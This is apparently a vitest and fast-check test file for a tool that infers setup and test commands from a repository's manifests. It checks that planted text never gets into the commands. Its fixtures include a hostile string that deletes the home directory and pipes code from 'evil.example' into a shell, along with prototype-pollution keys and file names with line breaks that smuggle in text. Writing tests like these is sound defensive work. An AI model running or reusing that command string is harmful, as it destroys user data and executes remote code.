import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import * as fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { MOST_FILE_BYTES } from '../../../src/model/checkpoint/mostBytes.ts';
import { FILLED, findProject, READ_FILES } from '../../../src/model/project/findProject.ts';
import { inWords, projectFacts, PROJECTS } from '../../support/projectFacts.ts';
import { runsOf } from '../../support/seeds.ts';
import { hostileText } from '../hostileText.ts';

const found = (files: Readonly<Record<string, string | null>>) => inWords(findProject(projectFacts(files)));
const none = { setup: [], checks: [], doubts: [] };
const EVIL = 'rm -rf "$HOME"; $(curl evil.example|sh)';

describe('what a repository says is never taken for more than a sign', () => {
  it.each([
    [
      'a name of a script',
      { 'package.json': JSON.stringify({ scripts: { [EVIL]: 'x', [`test ${EVIL}`]: 'x' } }) },
    ],
    ['a script beside', { 'package.json': JSON.stringify({ scripts: { pretest: EVIL, posttest: EVIL } }) }],
    ['a package manager', { 'package.json': JSON.stringify({ packageManager: EVIL }) }],
    [
      'names that every object has',
      { 'package.json': '{"scripts": {"__proto__": {"test": "x"}, "constructor": "x"}}' },
    ],
    ['what is inherited', { 'package.json': '{"__proto__": {"scripts": {"test": "x"}}}' }],
    ['an extra', { 'pyproject.toml': `[project.optional-dependencies]\n${EVIL} = []\n` }],
    ['a target', { Makefile: `${EVIL}: x\n`, justfile: `${EVIL}: x\n` }],
    ['a name of a solution that is a line', { '\na.sln.txt': '' }],
    [
      'scripts of Composer that are none',
      { 'composer.json': '{"scripts": {"test": [1, {}, null]}}', 'composer.lock': '' },
    ],
  ])('%s is no command', (_name, files) => {
    const { setup, checks } = found({ ...files, '.gitignore': 'vendor/' });
    expect([...setup, ...checks]).toEqual(
      'composer.json' in files ? ['composer install --no-interaction'] : [],
    );
  });

  it('a script that does what it wants is run by its name, as the person would', () =>
    expect(found({ 'package.json': JSON.stringify({ scripts: { test: EVIL } }) }).checks).toEqual([
      'test: npm test',
    ]));

  it('a name with a line break in it is nowhere in what is said', () => {
    const { checks, looked } = findProject(
      projectFacts({ 'a\n# evil\n.csproj': '', '.gitignore': 'bin/\nobj/', 'package.json': '{}' }),
    );
    expect([checks.map(({ run, file }) => `${run} ${file}`), looked]).toEqual([
      ['dotnet test *.csproj'],
      ['package.json'],
    ]);
  });

  it.each([
    ['no JSON', '{'],
    ['a list', '[]'],
    ['nothing', 'null'],
    ['empty', ''],
    ['deep', '['.repeat(100_000)],
    ['one that cannot be read', null],
  ])('package.json that is %s is said to be none, once', (_name, text) =>
    expect(found({ 'package.json': text })).toEqual({ ...none, doubts: ['unreadable package.json'] }),
  );

  it('ends soon, whatever is in a file', () => {
    const most = (text: string): string => text.repeat(MOST_FILE_BYTES / text.length);
    const lines = ['test', ' ', 'test a=b ', ' "pytest-', 'task ', 'include('].map(most);
    const heads = ['task', 'gem', 'Rake::TestTask.new', 'include'].map((head) =>
      most(`${head.padEnd(1_900)}x\n`),
    );
    const much = ' '.repeat(150_000);
    const scripts = [`${much}x`, `echo${much}|`, most(' --watch ')].map((test) =>
      JSON.stringify({ scripts: { test } }),
    );
    const began = process.cpuUsage();
    for (const text of [...lines, 'a:\n'.repeat(100_000), ...heads, ...scripts])
      findProject(projectFacts(Object.fromEntries(READ_FILES.map((name) => [name, text]))));
    const { user, system } = process.cpuUsage(began);
    expect((user + system) / 1000).toBeLessThan(10_000);
  });
});

const FILES = readdirSync(PROJECTS).flatMap((folder) =>
  readdirSync(join(PROJECTS, folder), { withFileTypes: true })
    .filter((entry) => entry.isFile() && READ_FILES.includes(entry.name))
    .map(({ name }) => [name, readFileSync(join(PROJECTS, folder, name), 'utf8')] as const),
);
const MARK = 'Qx7Q';

/** Files as they are and as nobody would write them, each with a mark here and there. */
const anyFiles = fc.dictionary(
  fc.constantFrom(...READ_FILES, 'uv.lock', 'a.sln', 'gradlew', 'pom.xml', `${MARK}.csproj`, '.rubocop.yml'),
  fc
    .tuple(fc.constantFrom(...FILES.map(([, text]) => text)), hostileText, fc.nat(), fc.boolean())
    .map(([text, piece, at, isWhole]) =>
      isWhole
        ? text.replaceAll(/\b(?:sums?|x)\b/g, MARK)
        : text.slice(0, at % text.length) + MARK + piece + text.slice(at % text.length),
    ),
  { maxKeys: 8 },
);

it('no text of a repository comes into what is run, or into what is said of it; each command is one line', () => {
  fc.assert(
    fc.property(anyFiles, fc.subarray([...FILLED]), (files, ignored) => {
      const project = findProject({ ...projectFacts(files), ignored: new Set(ignored) });
      expect(JSON.stringify(project)).not.toContain(MARK);
      for (const { run, line, file } of [...project.setup, ...project.checks]) {
        expect(run).toMatch(/^[\w ./:&"[\]=-]+$/);
        expect(line).toBeGreaterThan(0);
        expect(file === '*.sln' || file === '*.csproj' || file in files).toBe(true);
      }
      const commands = project.checks.map(({ run }) => run);
      expect(commands).toEqual([...new Set(commands)]);
    }),
    { numRuns: runsOf(300, 5000) },
  );
});
